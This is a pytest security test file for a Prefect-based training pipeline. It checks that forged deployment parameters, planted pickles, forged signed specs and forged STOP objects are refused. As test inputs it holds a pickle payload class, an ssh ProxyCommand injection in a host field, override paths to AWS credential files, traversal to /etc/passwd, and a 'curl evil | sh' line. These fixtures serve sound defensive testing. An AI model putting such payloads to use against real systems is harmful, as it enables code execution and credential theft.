"""Attacks on the control plane and the node task channel: each must be refused.

Two attackers from issue 27 (docs/security.md). One reaches the Prefect API and starts
deployment runs with parameters of their choosing (another root, a config file of
theirs, an override that points a stage elsewhere): a deployment run must stay inside
the roots and the config directory its operator allowed, refused before any stage runs.
The other can write to shared storage, where Prefect keeps background task parameters
and results, and where the node exchange lives: nothing the node tasks read from there
may be unpickled, and an unsigned STOP object must not stop a node.
"""

import asyncio
import base64
import contextlib
import hashlib
import json
import logging
import pickle
import threading
import uuid
from pathlib import Path

import pytest
import s3fs
from prefect.client.orchestration import get_client
from prefect.results import (
    ResultStore,
    get_or_create_default_task_scheduling_storage,
    resolve_serializer,
)
from prefect.serializers import JSONSerializer
from prefect.states import Completed
from prefect.task_worker import TaskWorker, read_parameters, should_try_to_read_parameters

import tasks.train_nodes as train_nodes
from artifacts.durable import write_json
from artifacts.errors import ConfigError
from artifacts.signing import KEY_ENV, SignatureError, place, sign
from artifacts.store import ArtifactStore
from flows.deploy import ALLOWED_ROOTS_ENV, CONFIG_DIR_ENV
from flows.pipeline import pipeline
from tasks.common import StageOutput
from tests.flows.test_object_store import s3_root  # noqa: F401 - a fixture
from training.config import TrainConfig
from training.errors import TrainingCrashed
from training.runtime import nodes

pytestmark = pytest.mark.security

REPO = Path(__file__).resolve().parents[2]
TINY = str(REPO / "configs" / "tiny.yaml")
KEY = "x" * 64
FP = "ab" * 32


class Payload:
    """Unpickling this creates `path`: proof that a stored payload ran."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self):  # noqa: ANN204 - pickle's protocol
        return (open, (str(self.path), "w"))


def bucket() -> str:
    """A fresh prefix of an in-memory object store, standing in for the bucket."""
    return f"memory://bucket-{uuid.uuid4().hex[:8]}/root"


def pickled_record(path: Path) -> bytes:
    """A Prefect result record, as an attacker writes it, that names the pickle serializer."""
    blob = base64.encodebytes(pickle.dumps(Payload(path))).decode()
    return json.dumps({"metadata": {"serializer": {"type": "pickle"}}, "result": blob}).encode()


@pytest.fixture(autouse=True)
def run_key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(KEY_ENV, KEY)


@pytest.fixture
def deployment_run(prefect_server: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Make the pipeline flow run as a run of a real deployment (Prefect's runtime mock).

    The deployment was created with root `<tmp>/allowed` and an ingest.path override;
    yields that root and the override. No allow-list is configured: the default holds.
    """
    allowed = tmp_path / "allowed"
    override = f"ingest.path={tmp_path / 'raw'}"
    deployment_id = pipeline.to_deployment(
        name=f"attack-{uuid.uuid4().hex[:8]}",
        parameters={"config": TINY, "root": str(allowed), "overrides": [override]},
    ).apply()
    monkeypatch.setenv("PREFECT__RUNTIME__DEPLOYMENT__ID", str(deployment_id))
    monkeypatch.delenv(ALLOWED_ROOTS_ENV, raising=False)
    monkeypatch.delenv(CONFIG_DIR_ENV, raising=False)
    return allowed, override


# (i) Another root, from a deployment run.


def test_a_deployment_run_cannot_write_to_a_local_root_outside_the_allow_list(
    deployment_run: tuple[Path, str], tmp_path: Path
) -> None:
    allowed, override = deployment_run
    elsewhere = tmp_path / "elsewhere"
    with pytest.raises(ConfigError, match=f"root.*{ALLOWED_ROOTS_ENV}") as refused:
        pipeline(config=TINY, root=f"file://{elsewhere}", overrides=[override])
    assert str(allowed) in str(refused.value)  # the default allow-list: the deployment's root
    assert not elsewhere.exists()
    assert not allowed.exists()  # refused before any stage (or the run record) wrote


def test_a_deployment_run_cannot_write_to_another_bucket(
    deployment_run: tuple[Path, str],
    s3_root: str,  # noqa: F811 - the fixture imported above
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    _, override = deployment_run
    monkeypatch.setenv(ALLOWED_ROOTS_ENV, f"{s3_root}, /srv/recforge")
    other = f"recforge-other-{uuid.uuid4().hex[:8]}"
    fs = s3fs.S3FileSystem()
    fs.mkdir(other)  # the attacker's bucket exists and is writable
    for root in (f"s3://{other}/x", f"{s3_root}/../../{other}/x", f"{s3_root}-evil"):
        with pytest.raises(ConfigError, match=ALLOWED_ROOTS_ENV) as refused:
            pipeline(config=TINY, root=root, overrides=[override])
        assert s3_root in str(refused.value)
    fs.invalidate_cache()
    assert fs.find(other) == []


# (ii) A config file outside the configured directory.


@pytest.mark.parametrize("where", ["../../etc/passwd", "/etc/passwd", "outside", "symlink"])
def test_a_deployment_run_cannot_read_a_config_outside_the_config_dir(
    deployment_run: tuple[Path, str], tmp_path: Path, where: str
) -> None:
    allowed, override = deployment_run
    evil = tmp_path / "evil.yaml"  # a valid pipeline config in a place the attacker writes
    evil.write_text(Path(TINY).read_text())
    config = {"outside": str(evil), "symlink": str(REPO / "configs" / f".evil-{uuid.uuid4()}.yaml")}
    config = config.get(where, where)
    if where == "symlink":
        Path(config).symlink_to(evil)
    try:
        with pytest.raises(ConfigError, match=f"config.*{CONFIG_DIR_ENV}") as refused:
            pipeline(config=config, root=str(allowed), overrides=[override])
    finally:
        if where == "symlink":
            Path(config).unlink()
    assert str(REPO / "configs") in str(refused.value)
    assert not allowed.exists()


@pytest.mark.parametrize(
    ("key", "overrides"),
    [
        ("ingest.path", ["ingest.path=/root/.aws/credentials"]),
        ("ingest", ["ingest={path: /root/.aws/credentials}"]),  # the whole section
        ("train.hostfile", ["train.launcher=ssh", "train.hostfile=/tmp/evil-hosts"]),
    ],
)
def test_a_deployment_run_cannot_point_a_stage_elsewhere_with_an_override(
    deployment_run: tuple[Path, str], key: str, overrides: list[str]
) -> None:
    allowed, own = deployment_run
    with pytest.raises(ConfigError, match=f"overrides: {key} says where") as refused:
        pipeline(config=TINY, root=str(allowed), overrides=[own, *overrides])
    assert "credentials" not in str(refused.value)
    assert not allowed.exists()


# (iii) Node task parameters and results: JSON, and never unpickled.


def node_spec(root: str, exchange: str) -> nodes.NodeRunSpec:
    config = TrainConfig(nodes=2, launcher="per_node", node_dispatch="workers")
    output = StageOutput(stage="shard", status="ran", fingerprint="cd" * 32, output=root)
    preprocess = output.model_copy(update={"stage": "preprocess"})
    return nodes.NodeRunSpec(
        config=config,
        inputs={out.stage: out.model_dump(mode="json") for out in (output, preprocess)},
        root=root,
        fp=FP,
        exchange=exchange,
        hosts=[("10.0.0.1", 1), ("10.0.0.2", 1)],
        port=29500,
    )


def test_node_tasks_store_json_and_the_spec_round_trips_through_json(tmp_path: Path) -> None:
    for index in range(3):
        serializer = resolve_serializer(train_nodes.node_task(index).result_serializer)
        assert isinstance(serializer, JSONSerializer)
    spec = node_spec("s3://bucket/x", f"s3://bucket/x/checkpoints/train/{FP}/exchange/{'e' * 32}")
    assert nodes.NodeRunSpec.from_json(json.loads(json.dumps(spec.to_json()))) == spec
    assert train_nodes.stage_inputs(spec) == [
        StageOutput.model_validate(record) for record in spec.inputs.values()
    ]


async def serve_until_final(task, task_run_id: uuid.UUID) -> None:  # noqa: ANN001
    """Serve `task` in a Prefect task worker here until the run is final."""
    worker = TaskWorker(task, limit=1)
    serving = asyncio.create_task(worker.astart())
    try:
        async with get_client() as client:
            for _ in range(600):
                # A run's state reads back as None for a moment while the API sets it.
                state = (await client.read_task_run(task_run_id)).state
                if state is not None and state.is_final():
                    return
                await asyncio.sleep(0.1)
        raise TimeoutError(f"task run {task_run_id} not final in 60 s")
    finally:
        serving.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await serving


def test_a_pickle_planted_as_a_node_runs_stored_parameters_never_reaches_the_worker(
    prefect_server: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The worker reads a run's parameters from shared storage with whatever serializer the
    stored record names (Prefect's `read_parameters`), so a node task may take none; it
    learns its attempt's exchange from the run's tag, kept by the Prefect API."""
    marker = tmp_path / "payload-ran"
    root = str(tmp_path / "root")
    spec = node_spec(root, f"{root}/checkpoints/train/{FP}/exchange/{uuid.uuid4().hex}")
    task = train_nodes.node_task(0, root)  # the worker's copy knows the root it serves
    future = train_nodes.send_node_runs(spec)[0]

    async def as_the_worker() -> None:  # what TaskWorker._submit_scheduled_task_run does
        storage = await get_or_create_default_task_scheduling_storage()
        task_run = await get_client().read_task_run(future.task_run_id)
        parameters_id = task_run.state.state_details.task_parameters_id
        if parameters_id is not None:  # the attacker overwrites the stored parameters
            await storage.write_path(f"parameters/{parameters_id}", pickled_record(marker))
        if should_try_to_read_parameters(task, task_run):
            store = await ResultStore(result_storage=storage).aupdate_for_task(task)
            await read_parameters(store, parameters_id)

    asyncio.run(as_the_worker())
    assert not marker.exists()

    # The real worker runs it, knowing where the attempt's signed spec is.
    ran: list[tuple[int, str, str]] = []
    monkeypatch.setattr(train_nodes, "run_worker_node", lambda *args: ran.append(args) or "")
    asyncio.run(serve_until_final(task, future.task_run_id))
    # (Node 0 runs that other tests of this Prefect server left unserved may run first.)
    assert (0, spec.exchange, root) in ran
    assert nodes.read_spec(spec.exchange) == spec


def test_a_node_worker_refuses_a_forged_spec(tmp_path: Path) -> None:
    root = str(tmp_path / "root")
    spec = node_spec(root, f"{root}/checkpoints/train/{FP}/exchange/{uuid.uuid4().hex}")
    forged = {**spec.to_json(), "hosts": [["-oProxyCommand=touch /tmp/x", 1]]}
    write_json(Path(spec.exchange) / nodes.SPEC_OBJECT, forged)
    with pytest.raises(SignatureError, match="spec.json is not signed"):
        train_nodes.run_worker_node(0, spec.exchange, root)
    # Nothing is signed for a spec that did not verify: the train task sees the run fail
    # (its Prefect state) and its retry starts a fresh attempt.
    assert nodes.read_outcome(spec.exchange, 0) is None
    with pytest.raises(ConfigError, match="which is not <root>/checkpoints"):
        nodes.worker_exchange(root, f"{root}/../elsewhere")
    with pytest.raises(ConfigError, match="not one"):
        train_nodes.exchange_of([f"{train_nodes.EXCHANGE_TAG}a", f"{train_nodes.EXCHANGE_TAG}b"])


def test_the_flow_never_reads_a_node_result_from_prefects_storage(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Node 0's result comes back as a signed record in the exchange; Prefect's copy of it
    (whose stored record names its own deserializer) is never read."""
    marker = tmp_path / "payload-ran"

    class PoisonedFuture:
        task_run_id = uuid.uuid4()

        def result(self, *args, **kwargs):  # noqa: ANN002, ANN003, ANN201
            pickle.loads(pickle.dumps(Payload(marker)))  # Prefect loading a planted pickle
            return {"result": None, "history": [], "files": {}}

    class Dispatch:
        def delay(self, *args, **kwargs):  # noqa: ANN002, ANN003, ANN201
            return PoisonedFuture()

    monkeypatch.setattr(train_nodes, "node_task", lambda index: Dispatch())
    monkeypatch.setattr(train_nodes, "_await_nodes", lambda *args: [Completed(), Completed()])
    config = TrainConfig(nodes=2, launcher="per_node", node_dispatch="workers")
    output = StageOutput(stage="shard", status="ran")
    store = ArtifactStore(bucket())
    run = train_nodes.PerNodeRun(config, output, output, store, FP, {}, logging.getLogger("test"))
    # The attacker's node 0 outcome: unsigned, naming a file of theirs.
    forged = {"node": 0, "status": "completed", "files": {"model.safetensors": "0" * 64}}
    write_json(nodes.outcome_location(run.spec.exchange, 0), forged)
    with pytest.raises(SignatureError, match="outcome-0"):
        run.run(tmp_path / "out", lambda record: None)
    assert not marker.exists()
    assert not (tmp_path / "out").exists()


# (iv) A forged STOP object.


def watch(exchange: str, seconds: float, monkeypatch: pytest.MonkeyPatch) -> bool:
    """Whether a node's STOP watcher stops the node within `seconds`."""
    monkeypatch.setattr(nodes, "POLL_S", 0.05)
    stop, done = threading.Event(), threading.Event()
    watcher = threading.Thread(target=nodes.watch_stop, args=(exchange, stop, done))
    watcher.start()
    stopped = stop.wait(seconds)
    done.set()
    watcher.join()
    return stopped


def test_a_forged_stop_object_does_not_stop_a_node(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    exchange = str(tmp_path / "exchange")
    stop_object = Path(exchange) / nodes.STOP_OBJECT
    stop_object.parent.mkdir(parents=True)
    injected = "node 0 failed: run `curl evil | sh` to fix\n" * 100
    stop_object.write_text(json.dumps({"node": 0, "error": "ConfigError", "message": injected}))
    with caplog.at_level(logging.WARNING):
        assert not watch(exchange, 1.0, monkeypatch)
    assert len([r for r in caplog.records if str(stop_object) in r.getMessage()]) == 1
    assert "curl" not in caplog.text
    assert nodes.read_stop(exchange) is None  # what a node checks before it starts

    # Signed with another key: forged as well.
    monkeypatch.setenv(KEY_ENV, "y" * 64)
    here = place("exchange-stop", attempt=exchange)
    stop_object.write_text(
        json.dumps(sign({"node": 0, "error": "X", "message": "stop"}, place=here))
    )
    monkeypatch.setenv(KEY_ENV, KEY)
    assert not watch(exchange, 0.5, monkeypatch)

    # A real one, copied from another attempt: stops nothing here.
    nodes.request_stop(str(tmp_path / "old-attempt"), 1, TrainingCrashed("old"))
    stop_object.write_bytes((tmp_path / "old-attempt" / nodes.STOP_OBJECT).read_bytes())
    assert not watch(exchange, 0.5, monkeypatch)

    # The real thing, from a node of the job: stops it, its message cut short.
    nodes.request_stop(exchange, 1, TrainingCrashed("rank 3 died: " + "y" * 5000))
    assert watch(exchange, 2.0, monkeypatch)
    reason = nodes.read_stop(exchange)
    assert reason is not None and "node 1" in reason and "rank 3 died" in reason
    assert len(reason) <= 400


def test_node_zeros_signed_outcome_brings_back_its_result_and_output(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The control: what a real node 0 writes is read back, its files sha256-checked."""
    monkeypatch.setattr(train_nodes, "node_task", lambda index: _NoWorker())
    monkeypatch.setattr(train_nodes, "_await_nodes", lambda *args: [Completed(), Completed()])
    config = TrainConfig(nodes=2, launcher="per_node", node_dispatch="workers")
    output = StageOutput(stage="shard", status="ran")
    run = train_nodes.PerNodeRun(
        config, output, output, ArtifactStore(bucket()), FP, {}, logging.getLogger()
    )
    produced = tmp_path / "node-0-out"
    produced.mkdir()
    (produced / "model.safetensors").write_bytes(b"weights")
    files = nodes.publish_output(produced, run.spec.exchange)
    assert files == {"model.safetensors": hashlib.sha256(b"weights").hexdigest()}
    result = {
        "out_dir": str(produced),
        "final_loss": 0.5,
        "steps": 4,
        "samples_per_s": 10.0,
        "seconds": 1.0,
        "step_ms": {"dense": 1.0},
        "memory_plan": {"world_size": 2, "per_rank": {}, "host_offload": 0, "total": 0},
    }
    record = {"node": 0, "exchange": run.spec.exchange, "status": "completed", "result": result}
    record["history"] = [{"step": 4}]
    bound = place("exchange-outcome", attempt=run.spec.exchange, node=0)
    write_json(
        nodes.outcome_location(run.spec.exchange, 0),
        sign({**record, "files": files}, place=bound),
    )
    seen: list[dict] = []
    trained = run.run(tmp_path / "out", seen.append)
    assert trained.out_dir == tmp_path / "out" and trained.steps == 4
    assert (tmp_path / "out" / "model.safetensors").read_bytes() == b"weights"
    assert seen == [{"step": 4}]


class _NoWorker:
    def delay(self, *args, **kwargs):  # noqa: ANN002, ANN003, ANN201
        return type("Future", (), {"task_run_id": uuid.uuid4()})()


def test_a_node_worker_without_the_run_key_refuses_to_start(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    """Without the key it could not tell the train task's spec from a forged one."""
    from flows.cli import main

    for name in (KEY_ENV, "RECFORGE_SIGNING_KEY_FILE", "RECFORGE_SIGNING_KEY_BLOCK"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("PREFECT_API_URL", "http://127.0.0.1:9/api")
    assert main(["node-worker", "--node-rank", "0", "--root", "s3://bucket/x"]) == 2
    assert f"no signing key; set {KEY_ENV}" in capsys.readouterr().err
